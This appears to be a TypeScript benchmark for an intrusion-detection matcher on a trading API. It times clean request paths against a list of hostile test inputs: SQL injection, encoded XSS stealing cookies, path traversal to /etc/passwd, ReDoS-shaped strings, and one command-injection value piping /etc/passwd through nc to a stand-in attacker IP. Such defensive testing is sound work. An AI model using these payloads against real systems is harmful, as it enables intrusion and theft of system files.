/**
 * Micro-benchmark of the IDS matcher: `npx tsx test/bench/ids.bench.ts`.
 * The `ids.injection` detector scans `http.path` and every `attrs` value of every event, at
 * the 20,000 events/s of the detection benchmark and up to ingest's 100,000; this prints µs
 * per path for clean trading paths and for hostile ones (encoded attacks, and long inputs
 * shaped to make a careless regex backtrack).
 */
// The benchmark measures one detect module alone: going through @vigil/detect would need a
// build and would load chDB, BullMQ and the engine, which have nothing to do with matching.
// eslint-disable-next-line no-restricted-imports
import { scanForInjection } from '../../detect/src/ids-patterns.js'

const SYMBOLS = ['AAPL', 'BRK.B', 'VOD.L', 'RDS-A', '7203.T', 'EURUSD', 'BTC-USD', 'SAP.DE']

function cleanPath(i: number): string {
  const s = SYMBOLS[i % SYMBOLS.length]!
  switch (i % 6) {
    case 0:
      return `/v1/orders?symbol=${s}&side=buy&order_type=limit&limit=50&cursor=c_${i}`
    case 1:
      return `/v1/marketdata/${s}/candles?from=2026-11-24T09:30:00Z&to=2026-11-24T16:30:00.000Z&interval=1m`
    case 2:
      return `/v2/orders/ord_01HF3K9ZJ7Q8X2Y4W6V5T3R${(i % 100).toString().padStart(2, '0')}/cancel`
    case 3:
      return `/v1/orders?filter=%7B%22status%22%3A%5B%22open%22%2C%22partially_filled%22%5D%2C%22qty%22%3A%7B%22%24gt%22%3A${i % 100}%7D%7D&sort=-updated_at`
    case 4:
      return `/v1/accounts/ACC-${i % 1000}/positions?note=buy%20or%20sell%20and%20update%20later`
    default:
      return `/v1/orders/drop-copy?symbol=${s}&cursor=b3JkXzAxSEYzSy0tX18tX18%3D&select=price,qty`
  }
}

const HOSTILE = [
  "/v1/orders?id=1'%20OR%20'1'%3D'1'--",
  '/v1/orders?id=1%2520UN/**/ION%2520SEL/**/ECT%2520username,password%2520FROM%2520users',
  '/v1/search?q=%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E',
  '/v1/search?q=&#x3c;img src=x onerror=alert(1)&#x3e;',
  '/v1/files?f=..%252f..%252f..%252fetc%252fpasswd%2500.png',
  '/v1/tools/ping?host=x%3Bcat%24%7BIFS%7D%2Fetc%2Fpasswd%20%7C%20nc%20198.51.100.7%204444',
  // Long shapes near the 2048-character path limit, built to make a backtracking regex slow.
  `/v1/orders?q='${'%20or'.repeat(300)}`,
  `/v1/search?q=<a ${'x%20'.repeat(600)}`,
  `/v1/files?f=${'..%2f'.repeat(400)}`,
  `/v1/orders?q=${'/*'.repeat(1000)}`,
]

function measure(name: string, inputs: readonly string[], rounds: number): void {
  // The median round is reported: a shared machine's noise only ever adds time.
  const perPath: number[] = []
  let found = 0
  const reps = Math.max(1, Math.floor(2000 / inputs.length))
  for (let r = 0; r < rounds; r++) {
    const start = process.hrtime.bigint()
    for (let k = 0; k < reps; k++) for (const p of inputs) found += scanForInjection(p).length
    const us = Number(process.hrtime.bigint() - start) / 1000 / (reps * inputs.length)
    // The first fifth warms the JIT up.
    if (r >= rounds / 5) perPath.push(us)
  }
  perPath.sort((a, b) => a - b)
  const median = perPath[perPath.length >> 1]!
  const best = perPath[0]!
  const avgLen = inputs.reduce((n, p) => n + p.length, 0) / inputs.length
  console.log(
    `${name.padEnd(24)} median ${median.toFixed(2).padStart(7)} µs/path, best ${best.toFixed(2).padStart(7)} µs/path  (${inputs.length} paths, avg ${avgLen.toFixed(0)} chars, ${(found / rounds / reps / inputs.length).toFixed(2)} matches/path)`,
  )
}

const clean = Array.from({ length: 1000 }, (_, i) => cleanPath(i))
// `attrs` values are scanned too, several per event; most are short tokens like these.
const attrs = ['twap-v2', 'equities', 'eu-west-1', 'desk-7', 'client 4.2.1 (linux)', 'ACC-001', "buy or sell at best; update later"]
measure('clean trading paths', clean, 100)
measure('clean attrs values', attrs, 100)
measure('hostile: encoded attacks', HOSTILE.slice(0, 6), 100)
measure('hostile: long shapes', HOSTILE.slice(6), 40)
